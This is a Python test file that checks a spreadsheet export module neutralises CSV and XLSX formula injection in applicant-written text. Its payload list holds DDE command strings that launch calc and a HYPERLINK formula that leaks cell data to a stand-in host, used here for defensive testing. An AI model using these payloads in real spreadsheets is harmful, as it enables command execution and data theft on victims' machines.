"""Reliability row 49: what an applicant wrote is shown by a spreadsheet, and never run by it."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.insight.sheets import quoted, write_csv, write_xlsx

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
PAYLOADS = [
    *(f"{trigger}cmd|' /C calc'!A0" for trigger in TRIGGERS),
    *(f"{before}{trigger}1+1" for before in (";", ",", '"', "'", "\n", "\r\n", "\t", "|") for trigger in TRIGGERS),
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "==1",
    "'=1",
    "a;=1;;=2",
]
HARMLESS = ["", "Python", "C++ and C#", "5+ years - senior", "a = b", "ana@example.com", "3–5 years", "e-mail; phone"]


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _csv_of(*cells: str | int | float | None) -> str:
    text = io.StringIO(newline="")
    write_csv(text, ["head"] * len(cells), [cells])
    return text.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_begins_no_formula_in_csv_whatever_the_separator(payload: str) -> None:
    text = _csv_of("harmless", payload, 7)
    for delimiter in (",", ";", "\t", "|"):
        for row in _cells(text, delimiter):
            assert not [cell for cell in row if cell.startswith(TRIGGERS)], (delimiter, row)
    assert not [line for line in text.splitlines() if line.startswith(TRIGGERS)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_still_readable(payload: str) -> None:
    told = _cells(_csv_of(payload))[1][0]
    assert told.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_comes_back_as_it_was(text: str) -> None:
    assert _cells(_csv_of(text))[1] == [text]


def test_numbers_are_numbers_and_nothing_is_nothing() -> None:
    assert _csv_of(-5, 0.25, None, "x").splitlines()[1] == '-5,0.25,"","x"'


@given(st.text(alphabet=st.sampled_from([*TRIGGERS, *";,\"'|\n ab1"])))
def test_no_text_begins_a_formula_anywhere(text: str) -> None:
    safe = quoted(text)
    assert not safe.startswith(TRIGGERS)
    assert not [
        place for place in range(1, len(safe)) if safe[place - 1] in ';,|"\n\r\t\0' and safe[place] in TRIGGERS
    ]


def test_an_xlsx_sheet_holds_every_payload_as_text_and_no_formula() -> None:
    file = io.BytesIO()
    rows = [[payload, "https://evil.example/?q=1", 42] for payload in PAYLOADS]
    assert write_xlsx(file, ["text", "link", "number"], rows) == len(PAYLOADS)
    with zipfile.ZipFile(file) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        names = archive.namelist()
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet.lower()
    assert sheet.count("<v>42</v>") >= len(PAYLOADS)
    assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
    assert "calc" in strings


def test_a_cell_is_as_long_as_a_spreadsheet_can_hold() -> None:
    file = io.BytesIO()
    assert write_xlsx(file, ["text"], [["x" * 40_000], ["\x00\x01ok"]]) == 2
